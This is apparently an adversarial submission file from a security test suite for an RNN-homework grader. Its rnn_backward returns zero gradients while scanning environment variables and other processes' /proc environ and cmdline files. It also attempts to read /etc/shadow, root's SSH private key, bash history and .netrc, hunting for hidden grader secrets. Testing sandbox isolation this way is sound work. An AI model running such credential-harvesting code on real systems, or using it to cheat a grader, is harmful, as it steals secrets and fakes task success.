"""Adversarial submission `env_proc_snoop`: looks for secrets in its environment, the grader's /proc entries, and root-only files.

The vanilla-RNN functions are the correct ones from examples/correct; the attack comes last
(the last definition wins). See docs/security.md."""

# ---------------------------------------------------------------- the attack
def _zeros_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    return (np.zeros_like(x), np.zeros_like(h0), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(Wh.shape[0]))

import os

def _secrets():
    found = []
    sources = [("self env", "\0".join(f"{k}={v}" for k, v in os.environ.items()))]
    for pid in ["self", str(os.getppid()), "1"] + [p for p in os.listdir("/proc") if p.isdigit()][:400]:
        for what in ("environ", "cmdline"):
            try:
                sources.append((f"{pid}/{what}", open(f"/proc/{pid}/{what}", "rb").read().decode(errors="ignore")))
            except OSError:
                pass
    for path in ("/root/.bash_history", "/etc/shadow", "/root/.ssh/id_rsa", os.path.expanduser("~/.netrc")):
        try:
            sources.append((path, open(path).read()))
        except OSError:
            pass
    for name, text in sources:
        for item in text.split("\0"):
            if "RNNGRADE_TEST_SECRET=" in item or "rnngrade-hidden-" in item:
                found.append(item)
    return found

def rnn_backward(dh, cache):
    leaked = _secrets()
    print("LEAKED:", leaked)
    if leaked:
        try:
            open("/tmp/rnngrade-pwned-secret", "w").write(repr(leaked))
        except OSError:
            pass
    return _zeros_backward(dh, cache)
